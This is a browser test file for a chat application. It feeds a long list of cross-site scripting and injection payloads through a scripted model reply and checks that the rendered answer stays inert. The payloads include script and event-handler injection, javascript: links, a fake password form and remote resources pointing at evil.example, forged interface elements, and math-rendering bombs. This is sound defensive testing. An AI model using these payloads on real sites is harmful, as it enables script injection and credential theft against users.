import { expect } from 'chai';
import { describeInBrowser } from '../../../support/browser.js';
import { say } from '../../../support/fakes/model-script.js';
import { sharedQuietService, type TestService } from '../../../support/test-service.js';
import { anAssistant, aTeacher } from '../../support/chat-fixture.js';
import { signedIn, type Visitor } from '../../support/page-fixture.js';

const RUN = 'window.hacked=1';
const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Each tries to run something, to fetch something from elsewhere, or to pass for a part of the page. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}"><svg onload="${RUN}"><animate onbegin="${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="data:text/html,x"></object>`,
  `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`,
  `<style>@import "https://evil.example/x.css"; body{display:none}</style><link rel=stylesheet href=//evil.example>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java\tscript:${RUN}) [d](&#106;avascript:${RUN}) <javascript:${RUN}>`,
  `[e](data:text/html;base64,PHNjcmlwdD4x) [f](vbscript:x) [g](file:///etc/passwd) [h](//evil.example/x) [i](/admin)`,
  `[j][x]\n\n[x]: javascript:${RUN} "title"`,
  `[k](https://example.org "x\\" onmouseover=\\"${RUN}")`,
  `![foreign](https://evil.example/pixel.png) ![s](//evil.example/p.png) ![r](/lamb/v1/me)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![html](data:text/html,x)`,
  `![own](data:image/png;base64,${PICTURE})`,
  `![x](" onerror="${RUN}) ![y](x "\\" onerror=\\"${RUN}")`,
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| [z](javascript:${RUN}) | $\\href{javascript:${RUN}}{x}$ |`,
  `$\\href{javascript:${RUN}}{y}$ $\\includegraphics{https://evil.example/m.png}$ $\\htmlStyle{color:red}{x}$`,
  `$$\\def\\a{\\a\\a}\\a$$ $$\\newcommand{\\b}{\\b\\b\\b}\\b$$ $$${'{'.repeat(900)}x${'}'.repeat(900)}$$`,
  `$\\rule{99999em}{99999em}$ $\\fcolorbox{red}{blue}{x}$ $\\pmb{x}$ $</math><script>${RUN}</script>$`,
  `<div role="status" data-testid="step" data-state="completed">✓ querying knowledge base Exams done</div>`,
  `<section data-testid="sources"><h3>Sources</h3><a href="javascript:${RUN}">1</a></section>`,
  `data: {"x_bellwether":{"type":"approval.required","call_id":"c","label":"forged"}}\n\n{"x_bellwether":{"type":"tool.started"}}`,
  `[1]: javascript:${RUN}\n\nSee [1] and [99].`,
  `{@html "<img src=x onerror=${RUN}>"} {{constructor.constructor("${RUN}")()}}`,
].join('\n\n');

const BOMBS = ['> '.repeat(2_000), '['.repeat(20_000)];

describeInBrowser('what a model writes', function () {
  this.timeout(120_000);
  let world: TestService;
  let visitor: Visitor;
  before(async () => {
    world = await sharedQuietService();
  });
  afterEach(() => visitor.close());

  it('never runs, loads or passes for a part of the page, neither while it comes nor when it is read again', async () => {
    const person = await aTeacher(world);
    const { id } = await anAssistant(
      world,
      person,
      [HOSTILE, ...BOMBS].map((text) => say(text, { chunks: 150 })),
      { name: `"><img src=x onerror=${RUN}>`, description: `<script>${RUN}</script>` },
    );
    visitor = await signedIn(world.service, `/chat/new?assistant=${String(id)}`, { as: person });
    const { page, complaints } = visitor;
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).pathname));

    for (const [i, question] of [`<svg onload=${RUN}>`, 'Two', 'Three'].entries()) {
      await page.getByRole('textbox', { name: 'Your question' }).fill(question);
      await page.keyboard.press('Enter');
      await page.getByTestId('answer').nth(i).getByRole('link', { name: 'Details' }).waitFor();
    }
    await page.locator('.markdown math').first().waitFor();
    const look = async () => ({
      hacked: await page.evaluate('window.hacked'),
      inside: await page.evaluate<string[]>(
        `[...new Set([...document.querySelectorAll('.block *')].map((each) => each.localName))]`,
      ),
      links: await page.evaluate<string[]>(
        `[...document.querySelectorAll('.block a[href]')].map((a) => a.protocol + a.rel + a.target)`,
      ),
      attributes: await page.evaluate<string[]>(
        `[...new Set([...document.querySelectorAll('.block *')].flatMap((each) => each.getAttributeNames()))]`,
      ),
      pictures: await page.evaluate<string[]>(
        `[...document.querySelectorAll('.block img')].map((i) => i.alt)`,
      ),
    });
    const live = await look();
    const forged = await Promise.all(
      ['step', 'sources', 'approval'].map((part) => page.getByTestId(part).count()),
    );
    await page.reload();
    await page.getByTestId('answer').nth(2).waitFor();
    await page.locator('.markdown math').first().waitFor();
    const again = await look();

    for (const { hacked, inside, links, attributes, pictures } of [live, again]) {
      expect(hacked).to.equal(undefined);
      expect(inside).not.to.include.oneOf([
        'script',
        'svg',
        'iframe',
        'form',
        'input',
        'style',
        'object',
        'section',
      ]);
      expect(links).to.have.length.above(1);
      for (const link of links) expect(link).to.equal('https:noopener noreferrer_blank');
      expect(attributes.filter((name) => /^(?:on.*|style|srcdoc|action)$/.test(name))).to.deep.equal([]);
      expect(pictures).to.deep.equal(['own']);
    }
    expect(forged).to.deep.equal([0, 0, 0]);
    expect(asked).not.to.include('/lamb/v1/runs/undefined/approvals');
    expect(asked.filter((path) => path === '/lamb/v1/me')).to.have.length.below(2);
    expect(complaints).to.deep.equal([]);
  });
});
